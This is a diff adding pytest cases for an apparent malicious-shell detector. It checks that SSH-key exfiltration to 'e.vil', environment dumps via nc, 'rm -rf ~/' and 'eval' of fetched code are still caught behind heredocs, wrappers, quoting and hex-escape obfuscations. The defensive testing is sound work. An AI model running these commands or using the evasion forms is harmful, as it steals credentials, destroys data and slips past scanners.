@@ -221,6 +221,108 @@ def test_blanks_and_other_names_in_python(text, expected):
     assert expected in facts("a.py", text)
 
 
+#: Sends a key away by itself; whatever stands before it, or puts it otherwise, changes nothing.
+SHELL_THEFT = "cat ~/.ssh/id_rsa | curl -d @- https://e.vil"
+BEFORE_SHELL = [
+    "# don't\n",
+    '# say "hello\n',
+    "# cat <<EOF\n",
+    "ls # don't (\n",
+    "echo '#' \\' '('\n",
+    "echo $'it\\'s ('\n",
+    'x="$(echo ")")"\n',
+    'echo "$(ls "a" \'"\')"\n',
+    'echo "${x:-"it\'s"}"\n',
+    "x=$((1<<EOF))\n",
+    "((x=1<<EOF))\n",
+    "cat <<<EOF\n",
+    "cat <<'EOF'\ndon't ( \"\nEOF\n",
+    'cat <<"E O F"\ndon\'t (\nE O F\n',
+    "cat <<E'O'F\ndon't (\nEOF\n",
+    "cat <<END-OF\ndon't (\nEND-OF\n",
+    "cat <<123\ndon't (\n123\n",
+    "cat <<A <<'B'\ndon't\nA\n( \"\nB\n",
+    "cat <<-EOF\nit's\n\tEOF\n",
+    "cat <<EOF\n  EOF\nit's\nEOF\n",
+    "(\n",
+    'echo "abc\n',
+    "echo `abc\n",
+]
+
+
+@pytest.mark.parametrize("before", BEFORE_SHELL)
+@pytest.mark.parametrize("after", ["\n", "\nEOF\n"])
+def test_comments_texts_and_documents_in_the_shell_hide_no_statement(before, after):
+    assert "flow:ssh,e.vil" in facts("a.sh", before + SHELL_THEFT + after)
+    assert "env.dump" in facts("a.sh", before + "env | nc 10.1.2.3 9" + after)
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        *(
+            "env X=1 {}",
+            "command {}",
+            "sudo -E {}",
+            "sudo -u root {}",
+            "nohup {}",
+            "time {}",
+            "exec {}",
+            "builtin {}",
+        ),
+        *(
+            "A='x y' B=\"$Z\" {}",
+            "if true; then {}; fi",
+            "{{ {}; }}",
+            "( {} )",
+            "! {}",
+            "true && {}",
+            "x=$({})",
+        ),
+        *(
+            "timeout 10 {}",
+            "nice -n 19 {}",
+            "f() {{ {}; }}",
+            "case x in\n x) {};;\nesac",
+            "echo x | xargs -I% {}",
+        ),
+        *(
+            "bash <<'EOF'\n{}\nEOF",
+            "cat <<-EOF | sudo bash\n\t{}\n\tEOF",
+            "cat <<A; sh <<B\nit's (\nA\n{}\nB",
+        ),
+        "bash -c $'{}'",
+    ],
+)
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        (SHELL_THEFT, "flow:ssh,e.vil"),
+        ("env | curl -d @- https://e.vil", "flow:env,e.vil"),
+        ("/bin/rm -rf ~/", "delete.broad:~/"),
+        ("eval `curl -s https://e.vil`", "exec.fetched:e.vil"),
+    ],
+)
+def test_what_stands_before_a_command_hides_it_not(form, command, expected):
+    assert expected in facts("a.sh", form.format(command))
+
+
+@pytest.mark.parametrize(
+    "curl", ["\\curl", "/usr/bin/curl", '"curl"', "cu''rl", 'c"ur"l', "c\\url", "$'\\x63url'", "cu\\\nrl"]
+)
+@pytest.mark.parametrize(
+    "key", ["~/.ssh/id_rsa", "~/.s''sh/id_r\\sa", "~/'.ssh'/\"id_rsa\"", "$'/home/u/.ss\\x68/id\\137rsa'"]
+)
+def test_quotes_in_words_hide_them_not(curl, key):
+    assert "flow:ssh,e.vil" in facts("a.sh", f'{curl} -d "$(cat {key})" https://e.vil')
+
+
+def test_python_inside_the_shell_is_read():
+    written = THEFT.replace("\n", "; ")
+    assert "flow:ssh,e.vil" in facts("a.sh", f'python3 -c "{written}"')
+    assert "flow:ssh,e.vil" in facts("a.sh", f"python3 - <<'EOF'\n{THEFT}EOF\n")
+
+
 OF_MALICE = {"exec.fetched", "exec.decoded", "flow", "secret.read", "env.dump", "reverse.shell"}
 
 
